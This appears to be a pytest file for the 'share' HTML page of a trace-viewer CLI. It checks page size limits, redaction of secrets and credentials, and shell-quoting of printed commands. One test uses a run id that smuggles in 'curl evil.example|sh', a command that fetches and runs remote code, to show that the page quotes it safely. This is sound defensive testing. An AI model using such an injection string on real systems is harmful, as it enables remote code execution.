"""Review 23a (R8): what a hostile or a huge trace did to the page, each proved fixed."""
from __future__ import annotations

import copy
import html
import shlex
from pathlib import Path

import orjson
from click.testing import CliRunner

from tracetui.cli import main
from tracetui.explain.search import Explanation
from tracetui.share import share_page
from tracetui.share import budget as page_budget
from tracetui.share.events import MAX_SUMMARY_CHARS
from tracetui.trace.reader import read_trace

from hostile_share import clean_trace
from test_terminal_output import SECRET


def _unproven(run):
    return Explanation(run, run.verdict(), reason="not proven in this test")


def _records(tmp_path: Path) -> list[dict]:
    return [orjson.loads(line) for line in clean_trace(tmp_path).read_bytes().splitlines()]


def _write(path: Path, records: list[dict]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in records))
    return path


def _long_run(tmp_path: Path, n: int, pad: int = 0) -> Path:
    """cross_tenant with its first (http) event repeated ``n`` times before the failure."""
    records = _records(tmp_path)
    head = [r for r in records if r["rec"] == "run"]
    events = [r for r in records if r["rec"] == "event"]
    tail = [r for r in records if r["rec"] == "summary"]
    many = []
    for i in range(n):
        event = copy.deepcopy(events[0])
        event["seq"] = i + 1
        event["data"]["pad"] = "y" * pad
        many.append(event)
    for j, event in enumerate(events[1:]):
        event["seq"] = n + j + 1
        many.append(event)
    for summary in tail:
        summary["first_failure"]["seq"] = n + 3
    return _write(tmp_path / "long.jsonl", head + many + tail)


def test_a_run_of_many_events_makes_a_bounded_page_that_says_what_it_left_out(tmp_path):
    trace = read_trace(_long_run(tmp_path, 3000))
    page = share_page([trace.runs["cross_tenant"]], "long.jsonl", "c", prove=_unproven)
    assert page.count('<details class="event') <= page_budget.MAX_EVENTS
    assert page.count("<th class=\"step\">") + page.count('<th class="ff-step">') <= page_budget.MAX_EVENTS
    # the first failure is still there, marked, open, and linked from its cell
    assert page.count('data-first-failure="true"') == 1
    assert 'class="event deciding-event" id="r1-e3002" open' in page and 'href="#r1-e3002"' in page
    assert "events not on this page" in page and "tracetui open long.jsonl" in page


def test_big_event_data_is_cut_to_the_page_budget_with_a_note(tmp_path, monkeypatch):
    monkeypatch.setattr(page_budget, "PAGE_CHARS", 2_000_000)
    trace = read_trace(_long_run(tmp_path, 60, pad=90_000))
    page = share_page([trace.runs["cross_tenant"]], "long.jsonl", "c", prove=_unproven)
    assert len(page) < 2_000_000 + 400_000
    assert "the page is at its size limit" in page
    assert page.count('data-first-failure="true"') == 1  # the lanes still show the failure


def test_a_page_of_many_runs_stops_at_its_size_limit_and_says_so(tmp_path, monkeypatch):
    monkeypatch.setattr(page_budget, "PAGE_CHARS", 300_000)
    records = _records(tmp_path)
    runs = []
    for n in range(40):
        for record in copy.deepcopy(records):
            record["run_id"] = f"run-{n}"
            if record["rec"] == "event":
                record["data"]["pad"] = "z" * 20_000
            runs.append(record)
    trace = read_trace(_write(tmp_path / "many.jsonl", runs))
    proved = []
    page = share_page(list(trace.runs.values()), "many.jsonl", "c", grouped=True,
                      prove=lambda run: (proved.append(run), _unproven(run))[1])
    assert len(page) < 300_000 + 200_000
    assert "not on this page: the page is at its size limit" in page
    assert "tracetui share many.jsonl --run run-39" in page
    assert len(proved) < 40  # a run left out is not proved either


def test_commands_the_page_prints_quote_the_run_id_and_the_file(tmp_path):
    records = _records(tmp_path)
    evil = "x; curl evil.example|sh #"
    for record in records:
        record["run_id"] = evil
        if record["rec"] == "run":
            record["inputs"]["source"] = "record"
    trace = read_trace(_write(tmp_path / "t.jsonl", records))
    page = share_page([trace.runs[evil]], "my traces/t.jsonl", "c")
    quoted = f"tracetui explain {shlex.quote('my traces/t.jsonl')} --run {shlex.quote(evil)} -- COMMAND"
    assert quoted.replace("'", "&#x27;") in page
    assert "--run x; curl" not in page


def test_the_more_line_quotes_too():
    from tracetui.share.fixes import explain_more_command

    shown = html.unescape(explain_more_command("-t.jsonl", "a b;c", 12))
    assert shown == "tracetui explain ./-t.jsonl --run 'a b;c' --limit 12"


def test_lines_the_reader_skipped_are_said_on_the_page(tmp_path):
    records = _records(tmp_path)
    lines = [orjson.dumps(r).decode() for r in records]
    lines[2] = lines[2].replace('"seq":', '"bad":"\\ud800","seq":', 1)  # a lone surrogate: the line is refused
    path = tmp_path / "t.jsonl"
    path.write_text("\n".join(lines) + "\n")
    out = tmp_path / "page.html"
    res = CliRunner().invoke(main, ["share", str(path), "--run", "cross_tenant", "-o", str(out)],
                             catch_exceptions=False)
    assert res.exit_code == 0, res.output
    page = out.read_text()
    assert "1 line of" in page and "was skipped" in page and "line 3: malformed JSON" in page


def test_a_secret_across_the_summary_cut_is_redacted_not_shown_in_part(tmp_path):
    records = _records(tmp_path)
    for record in records:
        if record["rec"] == "event":
            record["summary"] = "x" * (MAX_SUMMARY_CHARS - 12) + " " + SECRET
    trace = read_trace(_write(tmp_path / "t.jsonl", records))
    page = share_page([trace.runs["cross_tenant"]], "t.jsonl", "c", prove=_unproven)
    assert SECRET[:10] not in page


def test_an_edit_to_a_credential_field_shows_no_value(tmp_path):
    from tracetui.share import fixes

    item = {"kind": "fix", "words": "w", "side": "input", "edits": [{"path": "/inputs/headers/x-api-key",
                                                                      "value": "hunter2-plain"}]}
    shown = fixes._proposal(item)
    assert "hunter2-plain" not in shown and "&lt;redacted&gt;" in shown


def test_a_page_shows_at_most_max_runs_in_full(tmp_path, monkeypatch):
    monkeypatch.setattr(page_budget, "MAX_RUNS", 3)
    records = _records(tmp_path)
    runs = []
    for n in range(5):
        for record in copy.deepcopy(records):
            record["run_id"] = f"run-{n}"
            runs.append(record)
    trace = read_trace(_write(tmp_path / "five.jsonl", runs))
    proved = []
    page = share_page(list(trace.runs.values()), "five.jsonl", "c", grouped=True,
                      prove=lambda run: (proved.append(run), _unproven(run))[1])
    assert len(proved) == 3 and page.count("not on this page: the page is at its size limit") == 2


def test_output_over_the_input_is_refused_before_any_run_is_proved(tmp_path, monkeypatch):
    import tracetui.share as share_package

    trace = tmp_path / "t.jsonl"
    trace.write_bytes(clean_trace(tmp_path).read_bytes())
    made = []
    monkeypatch.setattr(share_package, "share_page", lambda *a, **k: made.append(a) or "page")
    res = CliRunner().invoke(main, ["share", str(trace), "--run", "cross_tenant", "-o", str(trace)],
                             catch_exceptions=False)
    assert res.exit_code == 2 and "is the trace this page shows" in res.stderr and made == []
